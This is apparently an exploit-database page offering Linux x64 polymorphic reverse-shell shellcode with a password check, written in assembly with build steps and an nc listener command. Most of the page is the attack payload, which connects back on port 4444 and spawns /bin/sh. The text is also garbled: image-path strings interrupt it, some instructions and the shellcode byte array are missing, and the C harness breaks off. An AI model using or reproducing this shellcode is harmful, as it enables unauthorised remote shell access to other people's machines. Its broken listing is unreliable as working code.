Linux/x64 - Reverse ( Shell + Password (hack) + Polymorphic Shellcode (135 bytes)









Become a Certified Penetration Tester

Enroll in Penetration Testing with Kali Linux , the course required to become an Offensive Security Certified Professional (OSCP)


*Title:            tcp reverse shell with password polymorphic version v2 135 bytes
*Author:           Sathish kumar
*Copyright:        (c) 2016 iQube. (
*Release Date:     January 29, 2016*Description:      x64 Linux reverse TCP port shellcode on port 4444 with reconfigurable password
*Tested On:        Ubuntu 14.04 LTS
*Build/Run:        gcc -fno-stack-protector -z execstack filename.c -o filename
*                   ./bindshell
*                   nc -l 4444 -vvv

global _start

    xor rax, rax    ;Xor function will null the values in the register beacuse we doesn't know whats the value in the register in realtime cases
    xor rsi, rsi
    mul rsi
    push byte 0x2   ;pusing argument to the stack
    pop rdi         ; poping the argument to the rdi instructions on the topof the stack should be remove first because stack LIFO
    inc esi         ; already rsi is 0 so incrementingthe rsi register will make it 1
    push byte 0x29  ; pushing the syscall number into the rax by using stack
    pop rax
    ; copying the socket descripter from rax to rdi register so that we can use it further

    xchg rax, rdi
    ; server.sin_family = AF_INET
    ; server.sin_port = htons(PORT)
    ; server.sin_addr.s_addr = INADDR_ANY
    ; bzero(&server.sin_zero, 8)
    ; setting up the data sctructure
    xor rax, rax
    push rax                         ; bzero(&server.sin_zero, 8)mov ebx , 0xfeffff80; ip address "noted" to remove null
    not ebx
    mov dword [rsp-4], ebx
    sub rsp , 4                      ; adjust the stack
    xor r9, r9
    push word 0x5c11                 ; port 4444 in network byte order
    push word 0x02                   ; AF_INET
    push rsp
    pop rsi
    push 0x10
    pop rdx
    push 0x2a
    pop rax
    push 0x3
    pop rsi                             ; setting argument to 3

    dec esi
    mov al, 0x21                       ;duplicate syscall applied to error,output and input using loop
    jne duplicate
    push rsppop rsi
    xor rax, rax   ; system read syscall value is 0 so rax is set to 0
    push 0x6b636168 ; password to connect to shell is hack which is pushed in reverse and hex encoded
    pop rax
    lea rdi, [rel rsi]
    scasd           ; comparing the user input and stored password in the stack
    xor esi, esi
    xor r15, r15
    mov r15w, 0x161f
    sub r15w, 0x1110
    push r15
    mov r15, rsp
    mov rdi, 0xff978cd091969dd0
    inc rdi
    neg rdi
    mul esi
    add al, 0x3b
    push rdipush rsp
    pop rdi
    call r15

#include <stdio.h>
#include<string.h>

unsigned char code[] =\printf("Shellcode Length: %d\n", (int)strlen(code));
   int (*ret)() = (int(*)())code;